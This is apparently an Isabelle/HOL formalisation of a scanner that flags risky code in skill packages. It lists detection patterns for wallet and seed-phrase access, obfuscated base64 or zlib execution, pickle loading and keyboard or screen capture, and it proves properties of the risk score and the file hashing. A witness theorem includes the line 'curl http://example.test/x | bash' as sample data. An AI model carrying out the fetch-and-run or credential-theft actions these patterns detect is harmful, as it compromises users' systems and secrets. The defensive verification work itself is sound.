     Seq (Str ''chmod'') (Seq (Plus (Cls False [Spc])) (Seq (Star (Cls False [Rng (CHR ''0'') (CHR ''7'')])) (Seq (Cls False [Ch (CHR ''6''), Ch (CHR ''7'')]) (Rep 2 (Some 2) (Cls False [Rng (CHR ''0'') (CHR ''7'')]))))),
     ''Dangerous permission change''),
    (''setuid|setgid'',
     Seq (Str ''set'') (Alt (Str ''uid'') (Str ''gid'')),
     ''Setuid/setgid usage''),
    (''chown'' @ [CHR 0x5C] @ ''s+root'',
     Seq (Str ''chown'') (Seq (Plus (Cls False [Spc])) (Str ''root'')),
     ''Chown to root''),
    (''wallet.*'' @ [CHR 0x5C] @ ''.dat'',
     Seq (Str ''wallet'') (Seq (Star Dot) (Str ''.dat'')),
     ''Wallet file access''),
    (''seed'' @ [CHR 0x5C] @ ''s*phrase|mnemonic'',
     Alt (Seq (Str ''seed'') (Seq (Star (Cls False [Spc])) (Str ''phrase''))) (Str ''mnemonic''),
     ''Seed phrase reference''),
    (''keystore'',
     Str ''keystore'',
     ''Keystore access''),
    (''metamask|phantom|ledger'',
     Alt (Str ''metamask'') (Alt (Str ''phantom'') (Str ''ledger'')),
     ''Wallet software reference''),
    (''base64'' @ [CHR 0x5C] @ ''.(b64)?decode.*exec'',
     Seq (Str ''base64.'') (Seq (Opt (Str ''b64'')) (Seq (Str ''decode'') (Seq (Star Dot) (Str ''exec'')))),
     ''Base64 decoded execution''),
    (''base64'' @ [CHR 0x5C] @ ''s+-d'' @ [CHR 0x5C] @ ''s*'' @ [CHR 0x5C] @ ''|'',
     Seq (Str ''base64'') (Seq (Plus (Cls False [Spc])) (Seq (Str ''-d'') (Seq (Star (Cls False [Spc])) (Str ''|'')))),
     ''Base64 decode pipe (obfuscation)''),
    (''('' @ [CHR 0x5C, CHR 0x5C] @ ''x[0-9a-fA-F]{2}){10,}'',
     Rep 10 None (Seq (Str ([CHR 0x5C] @ ''x'')) (Rep 2 (Some 2) (Cls False [Rng (CHR ''0'') (CHR ''9''), Rng (CHR ''a'') (CHR ''f''), Rng (CHR ''A'') (CHR ''F'')]))),
     ''Hex-encoded string (long)''),
    (''zlib'' @ [CHR 0x5C] @ ''.decompress.*exec'',
     Seq (Str ''zlib.decompress'') (Seq (Star Dot) (Str ''exec'')),
     ''Compressed code execution''),
    (''marshal'' @ [CHR 0x5C] @ ''.loads'',
     Str ''marshal.loads'',
     ''Marshal deserialization''),
    (''pickle'' @ [CHR 0x5C] @ ''.loads?'' @ [CHR 0x5C] @ ''s*'' @ [CHR 0x5C] @ ''('',
     Seq (Str ''pickle.load'') (Seq (Opt (Str ''s'')) (Seq (Star (Cls False [Spc])) (Str ''(''))),
     ''Pickle deserialization (RCE risk)''),
    (''unzip'' @ [CHR 0x5C] @ ''s+.*-P'',
     Seq (Str ''unzip'') (Seq (Plus (Cls False [Spc])) (Seq (Star Dot) (Str ''-P''))),
     ''Password-protected ZIP extraction''),
    (''7z'' @ [CHR 0x5C] @ ''s+.*-p'',
     Seq (Str ''7z'') (Seq (Plus (Cls False [Spc])) (Seq (Star Dot) (Str ''-p''))),
     ''7zip with password'')]"

definition WARNING_PATTERNS :: "(string \<times> rx \<times> string) list" where
  "WARNING_PATTERNS = [
    (''socket'' @ [CHR 0x5C] @ ''.socket'',
     Str ''socket.socket'',
     ''Raw socket usage (unusual)''),
    (''compile'' @ [CHR 0x5C] @ ''s*'' @ [CHR 0x5C] @ ''(.*exec'',
     Seq (Str ''compile'') (Seq (Star (Cls False [Spc])) (Seq (Str ''('') (Seq (Star Dot) (Str ''exec'')))),
     ''Dynamic code compilation''),
    (''globals'' @ [CHR 0x5C] @ ''s*'' @ [CHR 0x5C] @ ''('' @ [CHR 0x5C] @ '')'' @ [CHR 0x5C] @ ''s*'' @ [CHR 0x5C] @ ''['',
     Seq (Str ''globals'') (Seq (Star (Cls False [Spc])) (Seq (Str ''()'') (Seq (Star (Cls False [Spc])) (Str ''['')))),
     ''Globals manipulation''),
    ([CHR 0x5C] @ ''/var'' @ [CHR 0x5C] @ ''/log'',
     Str ''/var/log'',
     ''/var/log access''),
    ([CHR 0x5C] @ ''/var'' @ [CHR 0x5C] @ ''/run'',
     Str ''/var/run'',
     ''/var/run access''),
    (''shutil'' @ [CHR 0x5C] @ ''.rmtree'',
     Str ''shutil.rmtree'',
     ''Directory tree deletion''),
    (''os'' @ [CHR 0x5C] @ ''.remove|os'' @ [CHR 0x5C] @ ''.unlink'',
     Seq (Str ''os.'') (Alt (Str ''remove'') (Str ''unlink'')),
     ''File deletion''),
    (''smtplib|send_mail|sendmail'',
     Seq (Str ''s'') (Alt (Str ''mtplib'') (Alt (Str ''end_mail'') (Str ''endmail''))),
     ''Email sending capability''),
    (''pyscreenshot|pyautogui|pynput'',
     Seq (Str ''py'') (Alt (Str ''screenshot'') (Alt (Str ''autogui'') (Str ''nput''))),
     ''Screen/keyboard capture library''),
    ([CHR 0x5C] @ ''bkeyboard'' @ [CHR 0x5C] @ ''b(?!Interrupt)'',
     Seq WordB (Seq (Str ''keyboard'') (Seq WordB (NotAhead (Str ''Interrupt'')))),
     ''Keyboard capture library''),
    (''ImageGrab|take_screenshot|capture_screen'',
     Alt (Str ''ImageGrab'') (Alt (Str ''take_screenshot'') (Str ''capture_screen'')),
     ''Screenshot capability''),
    (''ctypes.*kernel|ctypes.*user32'',
     Seq (Str ''ctypes'') (Alt (Seq (Star Dot) (Str ''kernel'')) (Seq (Star Dot) (Str ''user32''))),
     ''Low-level system calls''),
    (''win32api|win32con'',
     Seq (Str ''win32'') (Alt (Str ''api'') (Str ''con'')),
     ''Windows API access'')]"

definition INFO_PATTERNS :: "(string \<times> rx \<times> string) list" where
  "INFO_PATTERNS = []"

definition WHITELIST_PATTERNS :: "(string \<times> rx) list" where
  "WHITELIST_PATTERNS = [
    (''# '',
     Str ''# ''),
    ([CHR 0x22, CHR 0x22, CHR 0x22],
     Str ([CHR 0x22, CHR 0x22, CHR 0x22])),
    ([CHR 0x27, CHR 0x27, CHR 0x27],
     Str ([CHR 0x27, CHR 0x27, CHR 0x27])),
    (''https://api'' @ [CHR 0x5C] @ ''.'',
     Str ''https://api.''),
    (''localhost|127'' @ [CHR 0x5C] @ ''.0'' @ [CHR 0x5C] @ ''.0'' @ [CHR 0x5C] @ ''.1'',
     Alt (Str ''localhost'') (Str ''127.0.0.1''))]"

definition sudo_rx :: rx where
  "sudo_rx = Seq WordB (Seq (Str ''sudo'') WordB)"


subsection \<open>String operations\<close>

text \<open>\<open>sub in s\<close>, \<open>s.endswith(suf)\<close>, \<open>s.strip()\<close> and \<open>s.split('\n')\<close>.\<close>

fun contains :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "contains sub [] = (sub = [])"
| "contains sub (c # cs) = (startswith (c # cs) sub \<or> contains sub cs)"

definition endswith :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "endswith s suf = (length suf \<le> length s \<and> drop (length s - length suf) s = suf)"

definition strip :: "string \<Rightarrow> string" where
  "strip s = rev (dropWhile is_space (rev (dropWhile is_space s)))"

fun split_nl :: "string \<Rightarrow> string list" where
  "split_nl [] = [[]]"
| "split_nl (c # cs) =
    (if c = CHR 0x0A then [] # split_nl cs
     else (case split_nl cs of [] \<Rightarrow> [[c]] | l # ls \<Rightarrow> (c # l) # ls))"

subsection \<open>scan\_file\<close>

definition is_whitelisted :: "string \<Rightarrow> bool" where
  "is_whitelisted ln = list_ex (\<lambda>(p, r). re_search True r ln) WHITELIST_PATTERNS"

definition is_doc_file :: "string \<Rightarrow> bool" where
  "is_doc_file rel_path = list_ex (endswith rel_path) [''.md'', ''.rst'', ''.txt'']"

definition is_shell_file :: "string \<Rightarrow> bool" where
  "is_shell_file rel_path = list_ex (endswith rel_path) [''.sh'', ''.bash'']"

text \<open>The three additions of the loop body that are not table rows.\<close>

definition sudo_finding :: "string \<Rightarrow> nat \<Rightarrow> string \<Rightarrow> finding" where
  "sudo_finding rel_path line_num ln =
     \<lparr>level = ''CRITICAL'', file_name = rel_path, line = line_num, pattern = ''sudo'',
      description = ''Sudo usage in script'', snippet = take 100 (strip ln)\<rparr>"

definition subst_finding :: "string \<Rightarrow> nat \<Rightarrow> string \<Rightarrow> finding" where
  "subst_finding rel_path line_num ln =
     \<lparr>level = ''CRITICAL'', file_name = rel_path, line = line_num, pattern = ''$(...)'',
      description = ''Shell command substitution in non-shell file'',
      snippet = take 100 (strip ln)\<rparr>"

definition table_finding ::
  "string \<Rightarrow> string \<Rightarrow> nat \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string \<Rightarrow> nat \<Rightarrow> finding" where
  "table_finding lvl rel_path line_num ln pat desc width =
     \<lparr>level = lvl, file_name = rel_path, line = line_num, pattern = take 40 pat,
      description = desc, snippet = take width (strip ln)\<rparr>"

text \<open>The loop over \<open>CRITICAL_PATTERNS\<close>, with its \<open>continue\<close> in documentation files.\<close>

definition check_critical ::
  "string \<Rightarrow> nat \<Rightarrow> string \<Rightarrow> bool \<Rightarrow> string \<times> rx \<times> string \<Rightarrow> finding list \<Rightarrow> finding list" where
  "check_critical rel_path line_num ln doc row fs =
    (case row of (pat, r, desc) \<Rightarrow>
       if re_search True r ln then
         if doc \<and> list_ex (\<lambda>x. contains x pat) [''sudo'', ''chmod'', ''chown''] then fs
         else fs @ [table_finding ''CRITICAL'' rel_path line_num ln pat desc 100]
       else fs)"

definition check_warning ::
  "string \<Rightarrow> nat \<Rightarrow> string \<Rightarrow> string \<times> rx \<times> string \<Rightarrow> finding list \<Rightarrow> finding list" where
  "check_warning rel_path line_num ln row fs =
    (case row of (pat, r, desc) \<Rightarrow>
       if re_search True r ln
       then fs @ [table_finding ''WARNING'' rel_path line_num ln pat desc 100]
       else fs)"

text \<open>The loop over \<open>INFO_PATTERNS\<close> stops at the first match.\<close>

fun check_info ::
  "string \<Rightarrow> nat \<Rightarrow> string \<Rightarrow> (string \<times> rx \<times> string) list \<Rightarrow> finding list \<Rightarrow> finding list" where
  "check_info rel_path line_num ln [] fs = fs"
| "check_info rel_path line_num ln ((pat, r, desc) # rows) fs =
    (if re_search True r ln
     then fs @ [table_finding ''INFO'' rel_path line_num ln pat desc 80]
     else check_info rel_path line_num ln rows fs)"

text \<open>
  The body of the loop of \<open>scan_file\<close> for one line: from the findings of the result so
  far to the findings after the line.
\<close>

definition scan_line :: "string \<Rightarrow> nat \<Rightarrow> string \<Rightarrow> finding list \<Rightarrow> finding list" where
  "scan_line rel_path line_num ln fs0 =
    (if is_whitelisted ln then fs0
     else
       let doc = is_doc_file rel_path;
           fs1 = (if \<not> doc \<and> re_search False sudo_rx ln
                  then fs0 @ [sudo_finding rel_path line_num ln] else fs0);
           fs2 = (if contains ''$('' ln \<and> \<not> contains ''re.'' ln
                     \<and> \<not> contains [CHR ''r'', CHR 0x27] ln \<and> \<not> contains [CHR ''r'', CHR 0x22] ln
                  then
                    if \<not> list_ex (\<lambda>x. contains x ln) [''regex'', ''pattern'', ''findall'']
                    then
                      if \<not> is_shell_file rel_path
                      then fs1 @ [subst_finding rel_path line_num ln] else fs1
                    else fs1
                  else fs1);
           fs3 = fold (check_critical rel_path line_num ln doc) CRITICAL_PATTERNS fs2;
           fs4 = (if \<not> doc then fold (check_warning rel_path line_num ln) WARNING_PATTERNS fs3
                  else fs3);
           fs5 = (if length (filter (\<lambda>f. level f = ''INFO'') fs4) < 20
                  then check_info rel_path line_num ln INFO_PATTERNS fs4 else fs4)
       in fs5)"

text \<open>
  \<open>scan_file\<close>: the content is \<open>None\<close> when reading the file raises. Lines are numbered
  from 1.
\<close>

definition scan_file :: "string \<Rightarrow> string option \<Rightarrow> scan_result \<Rightarrow> scan_result" where
  "scan_file rel_path content r =
    (case content of
       None \<Rightarrow> r
     | Some text \<Rightarrow>
         let lines = split_nl text;
             r1 = r\<lparr>total_lines := total_lines r + length lines\<rparr>
         in r1\<lparr>findings :=
                 fold (\<lambda>(line_num, ln) fs. scan_line rel_path line_num ln fs)
                   (zip [1 ..< Suc (length lines)] lines) (findings r1)\<rparr>)"

section \<open>Theorems\<close>

subsection \<open>Risk score and verdict\<close>

lemmas rx_eval = rmatch.simps re_search_def code_def lower_code_def upper_code_def is_space_def
  is_digit_def is_word_def word_at_def next_char_def

lemma score_eq: "score c w i = min 100 (30 * c + 3 * min w 10 + min i 5)"
  by (simp add: score_def Let_def mult.commute)

text \<open>
  C5. For all counts \<open>c\<close>, \<open>w\<close>, \<open>i\<close> of Critical, Warning and Info findings the score is
  \<open>min(100, 30c + 3 min(w,10) + min(i,5))\<close>; it lies in [0,100], is non-decreasing in each
  argument, is 0 at (0,0,0), 30 at (1,0,0) and saturates at 100 at (4,0,0); the score of a
  scan result is this function of its three counts.
\<close>

theorem score_formula:
  "score c w i = min 100 (30 * c + 3 * min w 10 + 1 * min i 5)
   \<and> 0 \<le> score c w i \<and> score c w i \<le> 100
   \<and> (c \<le> c' \<longrightarrow> score c w i \<le> score c' w i)
   \<and> (w \<le> w' \<longrightarrow> score c w i \<le> score c w' i)
   \<and> (i \<le> i' \<longrightarrow> score c w i \<le> score c w i')
   \<and> score 0 0 0 = 0 \<and> score 1 0 0 = 30 \<and> score 4 0 0 = 100
   \<and> risk_score r = score (critical_count r) (warning_count r) (info_count r)"
proof -
  have mono_c: "c \<le> c' \<longrightarrow> score c w i \<le> score c' w i"
    unfolding score_eq by (auto simp: min_def)
  have mono_w: "w \<le> w' \<longrightarrow> score c w i \<le> score c w' i"
    unfolding score_eq by (auto simp: min_def)
  have mono_i: "i \<le> i' \<longrightarrow> score c w i \<le> score c w i'"
    unfolding score_eq by (auto simp: min_def)
  have vals: "score 0 0 0 = 0 \<and> score 1 0 0 = 30 \<and> score 4 0 0 = 100"
    unfolding score_eq by simp
  have bound: "score c w i \<le> 100"
    unfolding score_eq by simp
  show ?thesis
    using mono_c mono_w mono_i vals bound
    by (simp add: score_eq risk_score_def)
qed

theorem score_formula_witness:
  "(1::nat) \<le> 2 \<and> score 1 0 0 \<le> score 2 0 0
   \<and> (3::nat) \<le> 11 \<and> score 0 3 0 \<le> score 0 11 0
   \<and> (0::nat) \<le> 5 \<and> score 0 0 0 \<le> score 0 0 5
   \<and> score 1 3 5 = 44
   \<and> risk_score \<lparr>skill_name = ''demo'', files_scanned = 1, total_lines = 1,
        findings = [\<lparr>level = ''CRITICAL'', file_name = ''install.sh'', line = 1,
          pattern = ''curl'', description = ''Curl pipe to shell (DANGEROUS!)'',
          snippet = ''curl http://example.test/x | bash''\<rparr>]\<rparr> = 30"
  using score_formula [of 1 0 0 2 0 0 "\<lparr>skill_name = ''demo'', files_scanned = 1, total_lines = 1,
        findings = [\<lparr>level = ''CRITICAL'', file_name = ''install.sh'', line = 1,
          pattern = ''curl'', description = ''Curl pipe to shell (DANGEROUS!)'',
          snippet = ''curl http://example.test/x | bash''\<rparr>]\<rparr>"]
        score_formula [of 0 3 0 0 11 0] score_formula [of 0 0 0 0 0 5] score_formula [of 1 3 5]
  by (simp add: critical_count_def warning_count_def info_count_def)

text \<open>
  C6. The verdict of a score \<open>s\<close> is Blocked exactly when \<open>s \<ge> 81\<close>, Danger exactly when
  \<open>51 \<le> s \<le> 80\<close>, Caution exactly when \<open>21 \<le> s \<le> 50\<close> and Safe exactly when
  \<open>s \<le> 20\<close>, with the six boundary values as listed; the level of a scan result is the
  verdict of its score.
\<close>

theorem verdict_thresholds:
  "(verdict s = ''BLOCKED'') = (s \<ge> 81)
   \<and> (verdict s = ''DANGER'') = (51 \<le> s \<and> s \<le> 80)
   \<and> (verdict s = ''CAUTION'') = (21 \<le> s \<and> s \<le> 50)
   \<and> (verdict s = ''SAFE'') = (s \<le> 20)
   \<and> verdict 20 = ''SAFE'' \<and> verdict 21 = ''CAUTION'' \<and> verdict 50 = ''CAUTION''
   \<and> verdict 51 = ''DANGER'' \<and> verdict 80 = ''DANGER'' \<and> verdict 81 = ''BLOCKED''
   \<and> risk_level r = verdict (risk_score r)"
  by (simp add: verdict_def risk_level_def)

subsection \<open>Facts about skill\_hash\<close>






lemma sign_skill_fields:
  "composite_hash (sign_skill hl now sd) = fst (skill_hash hl sd)"
  "files (sign_skill hl now sd) = snd (skill_hash hl sd)"
  by (simp_all add: sign_skill_def split: prod.splits)

lemmas signet_eval = skill_hash_def walk.simps plain_hashlib_def SKIP_DIRS_def file_names_def
  dir_names_def file_content_def file_hash_def sign_skill_def

subsection \<open>The composite hash and the order of the walk\<close>

lemma feed_hash_files:
  "hash_files hl dir es fs st =
     fold (\<lambda>(rel, fh) (h, fhs). (h_update hl h (rel @ '':'' @ fh), AList.update rel fh fhs))
       (hashed hl (map (\<lambda>f. (dir @ [f], file_content es f)) fs)) st"
proof (induction fs arbitrary: st)
  case Nil
  then show ?case by (simp add: hashed_def)
next
  case (Cons f fs)
  obtain h fhs where st: "st = (h, fhs)" by (cases st)
  show ?case
    unfolding st by (simp add: hashed_def Let_def Cons.IH split: option.splits)
qed

lemma hashed_append: "hashed hl (xs @ ys) = hashed hl xs @ hashed hl ys"
  by (simp add: hashed_def)

lemma hashed_concat: "hashed hl (concat xss) = concat (map (hashed hl) xss)"
  by (induction xss) (simp_all add: hashed_append, simp add: hashed_def)

lemma fold_concat_map:
  "(\<And>x s. x \<in> set xs \<Longrightarrow> g x s = fold f (k x) s) \<Longrightarrow>
   fold g xs s = fold f (concat (map k xs)) s"
  by (induction xs arbitrary: s) simp_all

lemma walk_feed:
  fixes hl :: "'s hashlib"
  shows "walk hl dir es st =
     fold (\<lambda>(rel, fh) (h, fhs). (h_update hl h (rel @ '':'' @ fh), AList.update rel fh fhs))
       (hashed hl (walk_files dir es)) st"
proof (induction hl dir es st rule: walk.induct)
  case (1 hl dir es st)
  let ?F = "\<lambda>(rel, fh) (h, fhs). (h_update hl h (rel @ '':'' @ fh), AList.update rel fh fhs)"
  let ?ds = "sort (filter (\<lambda>d. d \<notin> set SKIP_DIRS) (dir_names es))"
  let ?k = "\<lambda>d. hashed hl (case map_of es d of
                          Some (Dir sub) \<Rightarrow> walk_files (dir @ [d]) sub
                        | _ \<Rightarrow> [])"
  have step: "(case map_of es d of Some (Dir sub) \<Rightarrow> walk hl (dir @ [d]) sub s | _ \<Rightarrow> s)
      = fold ?F (?k d) s" if "d \<in> set ?ds" for d and s :: "'s \<times> file_hashes"
    using "1.IH" [OF that] by (auto simp: hashed_def split: option.splits entry.splits)
  show ?case
    unfolding walk.simps [of hl dir es st] walk_files.simps [of dir es]
      hashed_append hashed_concat fold_append comp_def feed_hash_files map_map
    by (rule fold_concat_map [where k = ?k and f = ?F, unfolded comp_def]) (rule step)
qed


lemma fold_pair_split:
  "fold (\<lambda>(rel, fh) (h, fhs). (f rel fh h, g rel fh fhs)) xs (h, fhs) =
     (fold (\<lambda>(rel, fh) h. f rel fh h) xs h, fold (\<lambda>(rel, fh) fhs. g rel fh fhs) xs fhs)"
  by (induction xs arbitrary: h fhs) (simp_all split: prod.splits)

lemma skill_hash_walk_files:
  "skill_hash hl es =
     (digest_of hl (hashed hl (walk_files [] es)),
      fold (\<lambda>(rel, fh) fhs. AList.update rel fh fhs) (hashed hl (walk_files [] es)) [])"
  by (simp only: skill_hash_def walk_feed digest_of_def Let_def prod.case
      fold_pair_split [where f = "\<lambda>rel fh h. h_update hl h (rel @ '':'' @ fh)"
        and g = "\<lambda>rel fh fhs. AList.update rel fh fhs"])

lemma update_fresh: "k \<notin> fst ` set al \<Longrightarrow> AList.update k v al = al @ [(k, v)]"
  by (induction al) auto

lemma fold_update_distinct:
  "distinct (map fst (ys @ xs)) \<Longrightarrow>
   fold (\<lambda>(rel, fh) fhs. AList.update rel fh fhs) xs ys = ys @ xs"
proof (induction xs arbitrary: ys)
  case Nil
  then show ?case by simp
next
  case (Cons x xs)
  obtain k v where x: "x = (k, v)" by (cases x)
  have fresh: "k \<notin> fst ` set ys" using Cons.prems by (auto simp: x)
  have "distinct (map fst ((ys @ [(k, v)]) @ xs))" using Cons.prems by (simp add: x)
  from Cons.IH [OF this] show ?case by (simp add: x update_fresh [OF fresh])
qed

lemma skill_hash_sorted:
  assumes "sorted (map fst (hashed hl (walk_files [] es)))"
    and "distinct (map fst (hashed hl (walk_files [] es)))"
  shows "fst (skill_hash hl es) = sorted_composite hl es"
proof -
  have fhs: "snd (skill_hash hl es) = hashed hl (walk_files [] es)"
    using fold_update_distinct [of "[]" "hashed hl (walk_files [] es)"] assms(2)
    by (simp add: skill_hash_walk_files)
  show ?thesis
    unfolding sorted_composite_def fhs sort_key_id_if_sorted [OF assms(1)]
    by (simp add: skill_hash_walk_files)
qed

lemma file_names_filter:
  "file_names es = map fst (filter (\<lambda>ne. case snd ne of File _ \<Rightarrow> True | Dir _ \<Rightarrow> False) es)"
  by (induction es) (auto simp: file_names_def split: entry.splits)

lemma dir_names_filter:
  "dir_names es = map fst (filter (\<lambda>ne. case snd ne of File _ \<Rightarrow> False | Dir _ \<Rightarrow> True) es)"
  by (induction es) (auto simp: dir_names_def split: entry.splits)

lemma distinct_file_names: "distinct (map fst es) \<Longrightarrow> distinct (file_names es)"
  unfolding file_names_filter by (rule distinct_map_filter)

lemma distinct_dir_names: "distinct (map fst es) \<Longrightarrow> distinct (dir_names es)"
  unfolding dir_names_filter by (rule distinct_map_filter)

lemma hashed_keys_flat:
  "map fst (hashed hl (map (\<lambda>f. ([f], c f)) fs)) =
     filter (\<lambda>f. case file_hash hl (c f) of None \<Rightarrow> False | Some fh \<Rightarrow> fh \<noteq> []) fs"
  by (induction fs) (auto simp: hashed_def split: option.splits)

lemma skill_hash_flat:
  assumes "dir_names es = []" and "distinct (map fst es)"
  shows "fst (skill_hash hl es) = sorted_composite hl es"
proof -
  have wf: "walk_files [] es = map (\<lambda>f. ([f], file_content es f)) (sort (file_names es))"
    by (simp add: walk_files.simps [of "[]" es] assms(1))
  have d: "distinct (sort (file_names es))"
    using distinct_file_names [OF assms(2)] by simp
  show ?thesis
  proof (rule skill_hash_sorted)
    show "sorted (map fst (hashed hl (walk_files [] es)))"
      unfolding wf hashed_keys_flat by (rule sorted_filter [where f = "\<lambda>x. x", simplified]) simp
    show "distinct (map fst (hashed hl (walk_files [] es)))"
      unfolding wf hashed_keys_flat using d by (rule distinct_filter)
  qed
qed


text \<open>
  C1 (amended). The composite hash is the digest of \<open>path + ":" + hash\<close> folded over the
  hashed files in the order of the walk: directory by directory from the root down, the
  files of a directory sorted by name before its subdirectories, which follow sorted by
  name. It is the digest of the one globally sorted list when the walk meets the paths in
  sorted order, as it does when every file lies directly in the skill root.
\<close>

theorem composite_walk_order:
  "fst (skill_hash hl es) = digest_of hl (hashed hl (walk_files [] es))
   \<and> (sorted (map fst (hashed hl (walk_files [] es)))
        \<and> distinct (map fst (hashed hl (walk_files [] es))) \<longrightarrow>
      fst (skill_hash hl es) = sorted_composite hl es)
   \<and> (dir_names es = [] \<and> distinct (map fst es) \<longrightarrow>
      fst (skill_hash hl es) = sorted_composite hl es)"
  using skill_hash_sorted [of hl es] skill_hash_flat [of es hl]
  by (simp add: skill_hash_walk_files)

theorem composite_walk_order_witness:
  "dir_names [(''run.py'', File (Some ''p'')), (''SKILL.md'', File (Some ''d''))] = []
   \<and> distinct (map fst [(''run.py'', File (Some ''p'')), (''SKILL.md'', File (Some ''d''))])
   \<and> walk_files [] [(''run.py'', File (Some ''p'')), (''SKILL.md'', File (Some ''d''))] = [([''SKILL.md''], Some ''d''), ([''run.py''], Some ''p'')]
   \<and> fst (skill_hash plain_hashlib [(''run.py'', File (Some ''p'')), (''SKILL.md'', File (Some ''d''))]) = ''<SKILL.md:<d>run.py:<p>>''
   \<and> sorted_composite plain_hashlib [(''run.py'', File (Some ''p'')), (''SKILL.md'', File (Some ''d''))] = ''<SKILL.md:<d>run.py:<p>>''
   \<and> fst (skill_hash plain_hashlib [(''run.py'', File (Some ''p'')), (''SKILL.md'', File (Some ''d''))]) = sorted_composite plain_hashlib [(''run.py'', File (Some ''p'')), (''SKILL.md'', File (Some ''d''))]"
proof -
  have h: "dir_names [(''run.py'', File (Some ''p'')), (''SKILL.md'', File (Some ''d''))] = [] \<and> distinct (map fst [(''run.py'', File (Some ''p'')), (''SKILL.md'', File (Some ''d''))])"
    by (simp add: dir_names_def)
  have w: "walk_files [] [(''run.py'', File (Some ''p'')), (''SKILL.md'', File (Some ''d''))] = [([''SKILL.md''], Some ''d''), ([''run.py''], Some ''p'')]"
    by (simp add: walk_files.simps file_names_def dir_names_def file_content_def)
  have e: "fst (skill_hash plain_hashlib [(''run.py'', File (Some ''p'')), (''SKILL.md'', File (Some ''d''))]) = ''<SKILL.md:<d>run.py:<p>>''"
    by (simp add: signet_eval)
  from composite_walk_order [of plain_hashlib "[(''run.py'', File (Some ''p'')), (''SKILL.md'', File (Some ''d''))]"] h
  have eq: "fst (skill_hash plain_hashlib [(''run.py'', File (Some ''p'')), (''SKILL.md'', File (Some ''d''))]) = sorted_composite plain_hashlib [(''run.py'', File (Some ''p'')), (''SKILL.md'', File (Some ''d''))]"
    by fast
  show ?thesis
    using h w e eq by simp
qed

theorem composite_sorted_counterexample:
  "fst (skill_hash plain_hashlib [(''z.txt'', File (Some ''x'')), (''a'', Dir [(''b.txt'', File (Some ''y''))])]) = ''<z.txt:<x>a/b.txt:<y>>''
   \<and> snd (skill_hash plain_hashlib [(''z.txt'', File (Some ''x'')), (''a'', Dir [(''b.txt'', File (Some ''y''))])]) = [(''z.txt'', ''<x>''), (''a/b.txt'', ''<y>'')]
   \<and> sort (map fst (snd (skill_hash plain_hashlib [(''z.txt'', File (Some ''x'')), (''a'', Dir [(''b.txt'', File (Some ''y''))])]))) = [''a/b.txt'', ''z.txt'']
   \<and> sorted_composite plain_hashlib [(''z.txt'', File (Some ''x'')), (''a'', Dir [(''b.txt'', File (Some ''y''))])] = ''<a/b.txt:<y>z.txt:<x>>''
   \<and> fst (skill_hash plain_hashlib [(''z.txt'', File (Some ''x'')), (''a'', Dir [(''b.txt'', File (Some ''y''))])]) \<noteq> sorted_composite plain_hashlib [(''z.txt'', File (Some ''x'')), (''a'', Dir [(''b.txt'', File (Some ''y''))])]"
proof -
  have e: "skill_hash plain_hashlib [(''z.txt'', File (Some ''x'')), (''a'', Dir [(''b.txt'', File (Some ''y''))])]
      = (''<z.txt:<x>a/b.txt:<y>>'', [(''z.txt'', ''<x>''), (''a/b.txt'', ''<y>'')])"
    by (simp add: signet_eval)
  have s: "sorted_composite plain_hashlib [(''z.txt'', File (Some ''x'')), (''a'', Dir [(''b.txt'', File (Some ''y''))])] = ''<a/b.txt:<y>z.txt:<x>>''"
    unfolding sorted_composite_def e by (simp add: digest_of_def plain_hashlib_def)
  show ?thesis
    unfolding s e by simp
qed

subsection \<open>Determinism of the composite hash\<close>

lemma walk_files_mem:
  "x \<in> set (walk_files dir es) \<longleftrightarrow>
     (\<exists>f \<in> set (file_names es). x = (dir @ [f], file_content es f))
   \<or> (\<exists>d \<in> set (dir_names es). d \<notin> set SKIP_DIRS \<and> x \<in> set (sub_walk dir es d))"
  by (subst walk_files.simps) auto

lemma walk_files_prefix:
  "(p, c) \<in> set (walk_files dir es) \<Longrightarrow> \<exists>q. p = dir @ q \<and> q \<noteq> []"
proof (induction dir es arbitrary: p c rule: walk_files.induct)
  case (1 dir es)
  from "1.prems" consider
      (in_files) f where "f \<in> set (file_names es)" "(p, c) = (dir @ [f], file_content es f)"
    | (in_sub) d where "d \<in> set (dir_names es)" "d \<notin> set SKIP_DIRS"
        "(p, c) \<in> set (sub_walk dir es d)"
    unfolding walk_files_mem [of "(p, c)" dir es] by fast
  then show ?case
  proof cases
    case in_files
    then show ?thesis by simp
  next
    case in_sub
    then obtain s where s: "map_of es d = Some (Dir s)"
      and in_s: "(p, c) \<in> set (walk_files (dir @ [d]) s)"
      by (cases "map_of es d") (auto split: entry.splits)
    have d: "d \<in> set (sort (filter (\<lambda>d. d \<notin> set SKIP_DIRS) (dir_names es)))"
      using in_sub by simp
    from "1.IH" [OF d s refl in_s] obtain q where "p = (dir @ [d]) @ q" "q \<noteq> []" by fast
    then show ?thesis by simp
  qed
qed

lemma sub_walk_prefix:
  "(p, c) \<in> set (sub_walk dir es d) \<Longrightarrow> \<exists>q. p = dir @ d # q \<and> q \<noteq> []"
  by (auto split: option.splits entry.splits dest!: walk_files_prefix)

lemma walk_files_file:
  "(dir @ [f], c) \<in> set (walk_files dir es) \<longleftrightarrow>
     f \<in> set (file_names es) \<and> c = file_content es f"
proof -
  have "(dir @ [f], c) \<notin> set (sub_walk dir es d)" for d
    using sub_walk_prefix [where p = "dir @ [f]" and c = c and dir = dir and es = es and d = d] by auto
  then show ?thesis
    unfolding walk_files_mem [of "(dir @ [f], c)" dir es] by auto
qed

lemma walk_files_sub:
  assumes "q \<noteq> []"
  shows "(dir @ d # q, c) \<in> set (walk_files dir es) \<longleftrightarrow>
     d \<in> set (dir_names es) \<and> d \<notin> set SKIP_DIRS \<and> (dir @ d # q, c) \<in> set (sub_walk dir es d)"
proof -
  have other: "(dir @ d # q, c) \<notin> set (sub_walk dir es d')" if "d' \<noteq> d" for d'
    using sub_walk_prefix [where p = "dir @ d # q" and c = c and dir = dir and es = es and d = d'] that by auto
  have "(dir @ d # q, c) \<in> set (walk_files dir es) \<longleftrightarrow>
     (\<exists>d' \<in> set (dir_names es). d' \<notin> set SKIP_DIRS \<and> (dir @ d # q, c) \<in> set (sub_walk dir es d'))"
    unfolding walk_files_mem [of "(dir @ d # q, c)" dir es] using assms by auto
  also have "\<dots> \<longleftrightarrow> d \<in> set (dir_names es) \<and> d \<notin> set SKIP_DIRS
      \<and> (dir @ d # q, c) \<in> set (sub_walk dir es d)"
    using other by fast
  finally show ?thesis .
qed

